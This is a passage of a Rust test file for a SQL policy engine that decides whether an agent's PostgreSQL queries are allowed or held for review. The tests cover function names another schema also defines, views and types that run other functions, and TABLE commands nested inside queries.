            "SELECT * FROM app.feelings",
            Review,
            "reads app.feelings, whose column m",
        ),
        ("SELECT 1 = 'x'::text", Review, "operator = may resolve"),
        (
            "SELECT a FROM t WHERE a IN (1, 2)",
            Review,
            "operator = may resolve",
        ),
        (
            "SELECT a FROM t ORDER BY a",
            Review,
            "operator = may resolve",
        ),
        ("SELECT DISTINCT a FROM t", Review, "operator = may resolve"),
        ("SELECT a + 1, 'mood' FROM t", Allow, ""),
        ("SELECT moody FROM t", Allow, ""),
    ] {
        let v = policy.evaluate(&ctx, sql);
        assert_eq!(v.action, want, "{sql}: {:?}", v.reasons);
        assert!(
            v.reasons.iter().any(|r| r.contains(why)),
            "{sql}: {:?}",
            v.reasons
        );
    }
    // Without such objects the same reads are allowed.
    let plain = PolicyContext {
        db_functions: None,
        ..ctx
    };
    assert_eq!(policy.evaluate(&plain, "SELECT 'calm'::mood").action, Allow);
    assert_eq!(
        policy
            .evaluate(&plain, "SELECT a FROM t WHERE a IN (1)")
            .action,
        Allow
    );
}

#[test]
fn an_unqualified_call_of_a_shadowed_vetted_name_is_held_for_review() {
    let policy = Policy::builtin();
    let chain = agent();
    let functions = shadowed(&[
        ("length", &["public.length"]),
        ("max", &["app.max", "public.max"]),
        ("substring", &["public.substring"]),
        ("substr", &["public.substr"]),
        ("ceil", &["public.ceil"]),
        ("floor", &["public.floor"]),
        ("now", &["\"My Schema\".now"]),
        ("generate_series", &["public.generate_series"]),
    ]);
    let with = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: Some(&functions),
    };
    let without = PolicyContext {
        db_functions: None,
        ..with
    };
    // (sql, verdict with the shadows, text the first reason holds, verdict without them)
    for (sql, want, reason, plain) in [
        (
            "SELECT length(1)",
            Review,
            "length is also defined as public.length",
            Allow,
        ),
        ("SELECT LENGTH('abc')", Review, "public.length", Allow),
        ("SELECT \"length\"('abc')", Review, "public.length", Allow),
        (
            "SELECT count(*) FROM t WHERE length(name) > 3",
            Review,
            "public.length",
            Allow,
        ),
        (
            "SELECT max(id) FROM t",
            Review,
            "max is also defined as app.max, public.max",
            Allow,
        ),
        ("SELECT now()", Review, "\"My Schema\".now", Allow),
        (
            "SELECT * FROM generate_series(1, 3)",
            Review,
            "public.generate_series",
            Allow,
        ),
        ("EXPLAIN SELECT length(1)", Review, "public.length", Allow),
        // sqlparser parses these as special expressions; PostgreSQL reads them as ordinary calls.
        (
            "SELECT substring('abc', 1, 2)",
            Review,
            "substring is also defined",
            Allow,
        ),
        (
            "SELECT substring('abc')",
            Review,
            "substring is also defined",
            Allow,
        ),
        (
            "SELECT substr('abc', 1, 2)",
            Review,
            "substr is also defined",
            Allow,
        ),
        ("SELECT ceil(1.5), 1", Review, "ceil is also defined", Allow),
        ("SELECT floor(1.5)", Review, "floor is also defined", Allow),
        // A write keeps its own reason; the shadow is a further one.
        (
            "DELETE FROM t WHERE length(name) > 3",
            Review,
            "public.length",
            Review,
        ),
        // Only PostgreSQL's SQL-syntax form binds to pg_catalog.substring.
        ("SELECT substring('abc' FROM 1 FOR 2)", Allow, "", Allow),
        // Schema-qualified calls can't be captured.
        ("SELECT pg_catalog.length(1)", Allow, "", Allow),
        (
            "SELECT pg_catalog.max(id), pg_catalog.now() FROM t",
            Allow,
            "",
            Allow,
        ),
        ("SELECT lower('A'), count(*) FROM t", Allow, "", Allow),
        // A column named like a shadowed function is no call.
        ("SELECT length FROM t", Allow, "", Allow),
        // Another schema's function is not vetted, shadow list or not.
        (
            "SELECT public.length(1)",
            Review,
            "calls public.length",
            Review,
        ),
    ] {
        let v = policy.evaluate(&with, sql);
        assert_eq!(v.action, want, "{sql}: {:?}", v.reasons);
        if want == Review {
            assert!(v.reasons[0].contains(reason), "{sql}: {:?}", v.reasons);
        }
        let v = policy.evaluate(&without, sql);
        assert_eq!(v.action, plain, "{sql} without shadows: {:?}", v.reasons);
    }
}

#[test]
fn convert_is_judged_as_the_call_postgresql_reads_it_as() {
    // sqlparser reads `convert(x, y)` as a CONVERT expression; to PostgreSQL it is a call of whatever
    // `convert` resolves to, and none is on the read-only list.
    let v = verdict_of("SELECT convert(a, b) FROM t");
    assert_eq!(v.action, Review, "{:?}", v.reasons);
    assert!(v.reasons[0].contains("calls convert"), "{:?}", v.reasons);
}

#[test]
fn a_shadow_makes_an_allow_rule_for_reads_hold_the_call() {
    let policy = Policy::new(
        vec![PolicyRule {
            kinds: Some(vec!["SELECT".into()]),
            ..rule("reads", "allow")
        }],
        PolicyDefaults::default(),
        &["https://idp".to_string()],
    )
    .unwrap();
    let chain = agent();
    let functions = shadowed(&[("length", &["public.length"])]);
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: Some(&functions),
    };
    assert_eq!(
        policy.evaluate(&ctx, "SELECT lower(name) FROM t").action,
        Allow
    );
    assert_eq!(
        policy.evaluate(&ctx, "SELECT length(name) FROM t").action,
        Review
    );
}

#[test]
fn a_memo_forgets_its_verdicts_when_a_vetted_name_becomes_shadowed() {
    let policy = Policy::builtin();
    let chain = agent();
    let before = std::sync::Arc::new(super::DatabaseFunctions::default());
    let after = std::sync::Arc::new(shadowed(&[("length", &["public.length"])]));
    let mut memo = super::VerdictMemo::default();
    for (list, want) in [(&before, Allow), (&after, Review), (&before, Allow)] {
        memo.for_db_functions(Some(list));
        let ctx = PolicyContext {
            connection: "c",
            requester: &chain,
            db_functions: Some(list.as_ref()),
        };
        assert_eq!(
            policy
                .evaluate_memo(&ctx, "SELECT length(1)", &mut memo)
                .action,
            want
        );
    }
}

#[test]
fn catalog_names_meet_the_statement_however_it_spells_them() {
    let policy = Policy::builtin();
    let chain = agent();
    let reason = |why: &str| vec![why.to_string()];
    let key = super::verdict::relation_key;
    let long = format!("v{}", "x".repeat(62));
    let functions = super::DatabaseFunctions {
        // As `lists` keys them: the catalog's own names through `relation_key`.
        views: [
            (key("v_side"), reason("calls side()")),
            (key("UpperV"), reason("calls side()")),
            (key("my.v"), reason("calls side()")),
            (key(&long), reason("calls side()")),
        ]
        .into(),
        types: [
            (
                "int8".to_string(),
                reason("its cast from boolean runs public.b2i"),
            ),
            ("_d_chk".to_string(), reason("its CHECK runs public.side")),
        ]
        .into(),
        operators: [(
            "!~~".to_string(),
            reason("!~~(text,integer) runs public.nlk"),
        )]
        .into(),
        ..Default::default()
    };
    let ctx = PolicyContext {
        connection: "prod",
        requester: &chain,
        db_functions: Some(&functions),
    };
    let over_long = format!("SELECT * FROM {long}_truncated_away");
    // (sql, text a reason holds)
    for (sql, why) in [
        // `TABLE name` anywhere in a query reads the relation.
        ("SELECT * FROM (TABLE v_side) s", "reads view v_side"),
        ("SELECT false UNION TABLE v_side", "reads view v_side"),
        (
            "SELECT 1 UNION ALL (SELECT 2 EXCEPT TABLE public.v_side)",
            "reads view public.v_side",
        ),
        ("SELECT EXISTS (TABLE v_side)", "reads view v_side"),
        (
            "WITH x AS (TABLE v_side) SELECT * FROM x",
            "reads view v_side",
        ),
        // Case, dots inside quotes, and PostgreSQL's 63-byte cut.
        ("SELECT * FROM \"UpperV\"", "reads view"),
        ("SELECT * FROM \"my.v\"", "reads view"),
        (over_long.as_str(), "reads view"),
        // SQL spellings of built-in types' catalog names.
        ("SELECT true::bigint", "names type int8"),
        ("SELECT CAST(true AS BIGINT)", "names type int8"),
        // NOT LIKE is the !~~ operator.
        ("SELECT 'a' NOT LIKE 5", "operator !~~ may resolve"),
    ] {
        let v = policy.evaluate(&ctx, sql);
        assert_eq!(v.action, Review, "{sql}: {:?}", v.reasons);
        assert!(
            v.reasons.iter().any(|r| r.contains(why)),
            "{sql}: {:?}",
            v.reasons
        );
    }
    for sql in ["SELECT * FROM (TABLE other) s", "SELECT 1::int4 + 2"] {
        let v = policy.evaluate(&ctx, sql);
        assert_eq!(v.action, Allow, "{sql}: {:?}", v.reasons);
    }
}

#[test]
fn table_commands_inside_queries_name_their_tables_for_rules() {
    let rules = vec![PolicyRule {
        tables: Some(vec!["salaries".into(), "*.salaries".into()]),
        ..rule("salaries-need-review", "review")
    }];
    for sql in [
        "SELECT * FROM (TABLE salaries) s",
        "SELECT * FROM t UNION ALL TABLE salaries",
        "SELECT * FROM t UNION ALL TABLE hr.salaries",
    ] {
        let v = eval(rules.clone(), "prod", &agent(), sql);
        assert_eq!(v.rule, "salaries-need-review", "{sql}: {v:?}");
        assert_eq!(v.action, Review, "{sql}");
    }
}
